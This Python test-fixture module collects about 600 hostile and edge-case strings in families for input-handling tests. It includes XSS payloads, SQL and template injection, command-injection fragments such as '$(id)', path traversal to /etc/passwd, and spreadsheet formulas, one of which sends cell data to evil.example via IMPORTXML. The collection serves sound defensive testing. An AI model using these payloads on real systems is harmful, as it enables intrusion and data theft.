"""Some 600 texts that have broken programs, gathered by us, in families: what to look for stands beside each.

``FAMILIES`` is everything, ``STRINGS`` the same in one row, each once; ``kept`` says what a database gives back. Whoever
would run as a script sets ``window.__pwned`` or asks with a dialog.
"""

import itertools
import unicodedata

MARK = "__pwned"  # the property of the page's window that every script here would set
RUN = f"window.{MARK}=1"
ASK = "alert(1)"
TEXT_LIMIT = 64 * 1024  # bytes that a door takes

# Elements that run a script when they are put into a page as markup, or when they are looked at.
_ELEMENTS = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script\n>{RUN}</script\n>", f"<script src=data:text/javascript,{RUN}></script>",
    f"<img src=x onerror={RUN}>", f'<img src="x" onerror="{RUN}" id="naughty">', f"<img/src=x/onerror={RUN}>",
    "<img src=http://evil.example/pixel.gif>", f"<image src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={ASK}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>", f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>', "<iframe id=naughty src=//evil.example></iframe>",
    f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<a href=javascript:{RUN}>click</a>",
    f"<form action=javascript:{RUN}><button>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>", "<div style=position:fixed;inset:0;background:red>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">', "<plaintext>", "<textarea>", "<title>", "-->", "<![CDATA[", "<?php echo 1 ?>",
    "<?xml?>", "<dialog open>naughty</dialog>", "<h1 id=naughty>Big</h1>", "<b>bold</b>",
)  # fmt: skip
# What ends the attribute, element, string or comment in which a careless page has put it.
_ENDED = (
    f"{ending}{payload}"
    for ending in ('">', "'>", "`>", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "</template>")
    for payload in (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>")
)
_ESCAPES = (
    *_ENDED,
    f'" onmouseover="{RUN}', f"' onmouseover='{RUN}", f'" autofocus onfocus="{RUN}" x="', f"';{RUN};//", f'";{RUN};//',
    f"`;{RUN};//", f"\\';{RUN};//", f"${{{RUN}}}", f"*/{RUN}/*", f"\u2028{RUN}//", f"\r{RUN}", f"</ScRiPt\t><sVg/onload={RUN}>",
)  # fmt: skip
# Addresses: as a link they would run, or lead elsewhere than they say.
_LINKS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}", f"vbscript:{ASK}",
    f"data:text/html,<script>{RUN}</script>", "blob:https://example.com/1", "file:///etc/passwd", "https://", "http://a", "http://[::ffff:127.0.0.1]/",
    "http://0x7f.1/", "https://user:password@example.com/", "https://example.com@evil.example/", "///evil.example", "https://example.com/" + "a" * 2000,
    "https://xn--e1awd7f.com", "https://еxample.com", f'https://example.com/"onmouseover="{RUN}', "https://example.com/<script>",
    "http://example.com:port/", "http://%zz/", "sms:+16035550142?body=hi", "mailto:a@example.com?bcc=b@example.com", "https://example.com/(a)(b",
    "https://例え.テスト/パス",
)  # fmt: skip
_SQL = (
    "'", "''", "`", "' OR '1'='1", '" OR ""="', "1; DROP TABLE thread", "Robert'); DROP TABLE message;--", "' UNION SELECT * FROM account--",
    "'; SELECT pg_sleep(10)--", "\\'; --", "%", "_", "%%", "%_%", "/_", "\\%", "[a-z]", "*", ":name", ":1", "$1", "%(name)s", "@x", "0x41", "x'41'",
    "--", "/*", "/**/", "name_folded : x", "a OR b", "a NOT b", "NEAR(a b)", "NEAR(a, b, 3)", "^a", '"a', 'a"b', "- a", "+ a b",
)  # fmt: skip
_FORMATS = (
    "%s", "%d", "%x%x%x%x", "%99999999s", "%", "{}", "{0}", "{{", "}}", "}", "{first_name}", "{name}", "{balance}", "{user_name} {email}",
    "{0.__class__}", "{0.__class__.__mro__[1].__subclasses__()}", "{:>1e9}", "{{7*7}}", "{% for x in y %}", "{% raw %}", "{{'a'.__class__}}", "${7*7}",
    "<%= 7*7 %>", "*{7*7}", "[[7*7]]", "{{constructor.constructor('alert(1)')()}}", "${HOME}", "$(id)", "| id", "; id", "\\n", "\\u0000", "\\", "\\\\",
    "&lt;b&gt;", "&#x3c;script&#x3e;", "&", "&#0;", "%0d%0a", "%u003cscript",
)  # fmt: skip
# A spreadsheet takes what begins so as a formula.
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://evil.example","click")', "\t=1+1", "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")', 'DDE("cmd";"/C calc";"!A0")A0', '"=1+1"', "'=1+1", ";=1+1", ",=1+1", "﹦1+1", "＝1+1",
)  # fmt: skip
_PATHS = (
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "..\u2215..\u2215etc", "C:\\", "~root", ".",
    "...", "/", 'a/b\\c:d*e?f"g<h>i|j', ".htaccess", "PRN", "AUX", "COM1", "LPT1", "nul.jpg", "photo.jpg.exe", "photo.jpg\x00.exe", "photo.jpg ",
    " photo.jpg", "-rf", "a;b.jpg", 'a"; filename="b.exe', "a%22.jpg", "a'.jpg", "写真.jpg",
)  # fmt: skip
_LINES = (
    "a\nb", "a\r\nb", "a\rb", "\n", "\r", "\n\n\n\n\n\n\n\n", "a\u2028b", "a\u2029b", "a\x0bb", "a\x0cb", "a\x1cb\x1db\x1ec\x1fd",
    "X: y\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", ".\r\n", "a\tb", "\t", " ", "", " a ", "a  b",
)  # fmt: skip
# Space that is none, and nothing that takes a place: a name of these alone is not seen.
_BLANKS = (
    *map(chr, (
        0x00A0, 0x00AD, 0x034F, 0x061C, 0x115F, 0x1160, 0x1680, 0x17B4, 0x180E, 0x2000, 0x2003, 0x2009, 0x200A, 0x200B, 0x200C, 0x200D,
        0x202F, 0x205F, 0x2060, 0x2061, 0x2064, 0x206A, 0x2800, 0x3000, 0x3164, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFC, 0x1D173, 0xE0001, 0xE0020, 0xE0100,
    )),
    "\ufeffBOM first", "BOM \ufeff within", "zero\u200bwidth\u200bspaces", "soft\u00adhy\u00adphens", "Ana\u200dDíaz", "a\u2060b",
)  # fmt: skip
# Direction: marks, embeddings and overrides, closed and left open, isolates, and scripts that go the other way.
_DIRECTIONS = (
    *(f"left {chr(code)}abc 123" for code in (0x200E, 0x200F, 0x202A, 0x202B, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068)),
    *(f"{chr(code)}closed\u202c after" for code in (0x202A, 0x202B, 0x202D, 0x202E)),
    *(f"{chr(code)}closed\u2069 after" for code in (0x2066, 0x2067, 0x2068)), "\u202e", "\u2069\u2069\u202c\u202cescaped", "\u202eabc\u2069\u202c def",
    "\u2067" * 130 + "deep", "\u202a" * 130 + "deep", "שלום", "مرحبا بالعالم", "שלום Ana 123", "Ana שלום 123 מה", "בדיקה!", "!בדיקה", "١٢٣ abc", "ܫܠܡܐ",
    "𐤀𐤁𐤂", "𞤀𞤣𞤤𞤢𞤥", "a\u200fb\u200ec", "<\u202eb>",
)  # fmt: skip
_ABOVE, _BELOW, _THROUGH = (
    "\u030d\u030e\u0304\u0305\u033f\u0311",
    "\u0316\u0317\u0318\u0319\u031c\u0323",
    "\u0334\u0335\u0336\u0337\u0338",
)


def _zalgo(word: str, height: int) -> str:
    """Marks heaped upon each letter, over it and under it."""
    marks = itertools.cycle(_ABOVE + _BELOW + _THROUGH)
    return "".join(letter + "".join(itertools.islice(marks, height)) for letter in word)


_MARKS = (
    *(_zalgo("Zalgo comes", height) for height in (1, 5, 20, 80)), "e" + "\u0301" * 1000, "\u0301", "\u0301\u0301\u0301", "\u20dd", "a\u20dd\u20e0",
    "\u0488", "\u0300\u0327", "\u0e33", "ก็็็็็็็็็็็็็็็็็็็็", "ด้้้้้้้้้้้้้้้้้้", "\u0f39\u0f74", "က္ကာ", "\u1ab0\u1abe", "\U0001d165", "\u302a",
    "e\u0301", "Å", "Å", "A\u030a", "n\u0303", "ệ", "e\u0323\u0302", "ｶﾞ", "がぎ", "か\u3099", "한국", "\u1112\u1161\u11ab",
)  # fmt: skip
# Letters that become others, or more, when they are folded: whoever counts or compares afterwards is wrong.
_LETTERS = (
    "ß", "ẞ", "STRASSE straße", "İstanbul", "ıI", "ŉ", "ǰ", "ΰ", "և", "ς", "ﷺ", "ﷺ" * 40, "㍿", "㌀㌘㍱", "№ ℡ ™", "Ⅻ", "①②③", "𝔸𝕟𝕒", "Ａｎａ", "ᵃ", "Ꭰ Ꮳ",
    "ꙮ", "𒐫", "𒈙𒈙𒈙", "꧅꧅", "Аna (Cyrillic)", "Αna (Greek)", "ɑna", "O0l1I|", "社會科學院", "부산광역시", "Œ„´‰ˇÁ¨ˆØ∏”’", "¡™£¢∞§¶•ªº–≠", "ⒶⓃⒶ", "🅰🆎",
    "ʻOkina ʼOkina", "O’Brien O'Brien O`Brien", "Žluťoučký kůň", "Þór Ægir Øst", "ትግርኛ", "ᠮᠣᠩᠭᠣᠯ", "㐀䶵", "𫝀", "ﾃｽﾄ",
)  # fmt: skip
# What is no character, or is nobody's: the first two kinds no database holds.
_NONE = (
    "\x00", "a\x00b", "\x00\x00", "\x00first", "\ud800", "\udfff", "a\ud800b", "\udc00\ud800", "\ude00", "\ud800\x00", "\ud800" * 20, "ok \ude00\ud83d",
    *(chr(code) for code in (0xFFFE, 0xFFFF, 0xFDD0, 0xFDEF, 0x1FFFE, 0x10FFFE, 0x10FFFF, 0xE000, 0xF8FF, 0xF0000, 0x10FFFD, 0xFFFD, 0x0378, 0x2FE0)),
    *(f"control {chr(code)}here" for code in (*range(0x01, 0x09), 0x0E, 0x0F, 0x10, 0x1A, 0x1B, 0x7F, 0x80, 0x90, 0x9B, 0x9F)), "\x01\x01Word",
    "Number\x02\x02",
)  # fmt: skip
# A terminal obeys these, where a log or a command prints them.
_ANSI = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x9b31m",
    "\x07\x07\x07", "\x08\x08\x08\x08erased", "over\rwritten", "\x1b[1000D\x1b[K", "\x1bc", "\x0e\x0f", "\x1b(0", "\x1b[8mhidden", "\x1bP+q\x1b\\",
)  # fmt: skip
_EMOJI = (
    "😀", "☺", "☺\ufe0f", "☺\ufe0e", "❤\u200d🔥", "1\ufe0f\u20e3", "#\ufe0f\u20e3", "*\u20e3", "🇺", "🇺🇸🇨🇦🇲🇽", "🇦🇦", "🇺🇸🇨", "🏳\ufe0f\u200d🌈",
    "🏳\ufe0f\u200d⚧\ufe0f", "🏴\u200d☠\ufe0f", "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f", "🏴\U000e0067\U000e0062",
    *(f"👍{chr(tone)}" for tone in range(0x1F3FB, 0x1F400)), "🏽", "👍🏽🏽", "👨\u200d👩\u200d👧\u200d👦", "👩🏽\u200d🚒", "👩🏻\u200d❤\ufe0f\u200d💋\u200d👨🏿",
    "🧑🏿\u200d🤝\u200d🧑🏻", "👁\ufe0f\u200d🗨\ufe0f", "🐻\u200d❄\ufe0f", "🙍🏼\u200d♂\ufe0f", "👨\u200d", "\u200d👨", "👨\u200d\u200d👩", "😀" * 500, "⌚", "⏰",
    "©\ufe0f", "™", "🀄", "🃏", "🅰\ufe0f", "(╯°□°)╯︵ ┻━┻", "( ͡° ͜ʖ ͡°)", "ヽ༼ຈل͜ຈ༽ﾉ", ":-)", "<3",
)  # fmt: skip
_NUMBERS = (
    "0", "-0", "1e3", "1e309", "1e-999999999", "1E+999999999999999999", "1e1000000", "NaN", "sNaN", "-NaN123", "-inf", "+1", "1/0", "0x1F", "0o7",
    "1_000", "1.000,00", "1 000", "5.", "$1", "−5", "1" * 400, "20000000.01", "-20000000", "9223372036854775808", "0.005", "１２３", "١٢٣٫٥", "½", "Ⅳ",
    "1\u00a0000", "+1 603 555 0142", "tel", "911", "+0", "+1", "+99999999999999999", "+1603555014²", "６０３５５５０１４２", "٦٠٣٥٥٥٠١٤٢", "603-555-0142 x 99",
    "𝟔𝟎𝟑𝟓𝟓𝟓𝟎𝟏𝟒𝟐", "2026-02-30", "9999-12-31 23:59", "9999-12-31 23:59-23:59", "0001-01-01 00:00+23:59", "0000-00-00", "2026-12-01T25:00",
    "2026-12-01 08:00+99:99", "2026-12-01 08:00 Plow", "12/01/2026", "tomorrow", "a@b", "@", "a b@c.d", "<a@b.c>", "ä@bücher.example", '"a b"@c.d',
    "x" * 300 + "@example.com",
)  # fmt: skip
# What some language takes for nothing, for true, for a name of its own, or for a value.
_WORDS = (
    "null", "NULL", "None", "none", "void 0", "true", "True", "yes", "N/A", "#N/A", "nan", "(null)", "NaN", "[]", "[null]", '{"a": 1}',
    '{"__proto__": {"x": 1}}', '"', '""', "'a'", "[1,2", "__proto__", "constructor", "toString", "hasOwnProperty", "__class__", "__init__", "self",
    "this", "document", "length", "id", "admin", "anonymous", "everyone", "Unknown", "Removed", "STOP", "Stop by tomorrow?", "HELP", "/help", "/me",
    "#hashtag", "@here", "**bold** _it_ ~~no~~", "> quote", "```code```", "![x](http://evil.example/x.png)", "Scunthorpe", "Penistone", "Null",
    "Jennifer Null", "Test", "O", "X Æ A-12", "Mr. Robert Tables, Jr.", "Björk Guðmundsdóttir", "de la Cruz-O'Neil III", "!", "…", "'Ana", "all",
    "sent", "removed",
)  # fmt: skip
# Lines and words that are longer than any place for them.
_LONG = (
    "W" * 200, "W" * 10_000, "a" * 1600, "i" * 1601, "\n" * 2000, "🔥" * 400, "﷽" * 30, "-" * 300, "漢" * 500, "x" * TEXT_LIMIT,
    "ab " * (TEXT_LIMIT // 3), "é" * (TEXT_LIMIT // 2), "<" * 3000, "(" * 3000, "[" * 3000, "%" * 3000, '"' * 3000, "/" * 3000, "e\u0301" * 3000,
    "\u202e" * 300 + "x", "a." * 3000, "a@" * 3000, "1" * 5000, ";" * 3000,
)  # fmt: skip

FAMILIES: dict[str, tuple[str, ...]] = {
    "elements": _ELEMENTS, "escapes": _ESCAPES, "links": _LINKS, "sql": _SQL, "formats": _FORMATS, "formulas": _FORMULAS,
    "paths": _PATHS, "lines": _LINES, "blanks": _BLANKS, "directions": _DIRECTIONS, "marks": _MARKS, "letters": _LETTERS,
    "none": _NONE, "ansi": _ANSI, "emoji": _EMOJI, "numbers": _NUMBERS, "words": _WORDS, "long": _LONG,
}  # fmt: skip
STRINGS: tuple[str, ...] = tuple(dict.fromkeys(text for family in FAMILIES.values() for text in family))


def kept(text: str) -> str:
    """What a database gives back of a text, as product.md has it: NUL and lone surrogates are U+FFFD, all else as it came."""
    return "".join("\ufffd" if c == "\x00" or unicodedata.category(c) == "Cs" else c for c in text)


def short(text: str, limit: int = 60) -> str:
    """A text as a failing test tells of it."""
    return ascii(text if len(text) <= limit else f"{text[:limit]}… ({len(text):,})")
